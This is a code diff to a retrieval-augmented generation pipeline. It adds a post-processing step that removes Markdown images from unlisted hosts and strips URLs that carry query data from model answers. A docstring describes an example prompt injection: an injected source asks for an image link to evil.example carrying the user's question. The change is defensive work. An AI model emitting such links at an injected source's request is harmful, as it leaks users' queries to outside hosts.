@@ -1,4 +1,7 @@
-"""Stage 6, post-processing: citations mapping [n] to the sources the prompt held; PII redacted."""
+"""Stage 6, post-processing: citations, defused links, redacted PII.
+
+Citations map [n] to the sources the prompt held; links that could carry data out are defused.
+"""
 
 from __future__ import annotations
 
@@ -6,6 +9,7 @@ import re
 from collections.abc import Sequence
 from dataclasses import dataclass
 
+from tenantrag.governance.exfiltration import neutralize_exfiltration
 from tenantrag.governance.pii import redact
 from tenantrag.models import Hit
 from tenantrag.observability import metrics
@@ -50,11 +54,26 @@ def _citation(n: int, hit: Hit) -> Citation:
 
 @dataclass(frozen=True, slots=True)
 class PostProcess:
-    """Keeps only citations of sources the model was shown, then redacts PII in the answer."""
+    """Keeps only citations of sources the model was shown; defuses links; redacts PII.
+
+    An injected source can ask for `![x](https://evil.example/?q=<the question>)`: a client
+    rendering Markdown would fetch it unasked. Images from hosts not in `allowed_hosts` are
+    removed and links that carry a query or fragment lose their URL, before anything is cached
+    or returned; each defused one is counted and flags the answer.
+    """
+
+    allowed_hosts: tuple[str, ...] = ()
 
     async def __call__(self, ctx: QueryContext) -> QueryContext:
         shown = {b.index for b in ctx.prompt.blocks} if ctx.prompt is not None else None
         answer, ctx.citations = cite(ctx.answer, ctx.hits, shown)
+        defused = neutralize_exfiltration(answer, allowed_hosts=self.allowed_hosts)
+        if defused.removed:
+            ctx.flag("exfiltration_link_removed")
+            metrics.INJECTION.labels(
+                tenant=ctx.tenant.id, source="answer", action="neutralize"
+            ).inc(defused.removed)
+            answer = defused.text
         result = redact(answer)
         ctx.answer = result.text
         counts = {str(kind): n for kind, n in result.counts.items()}
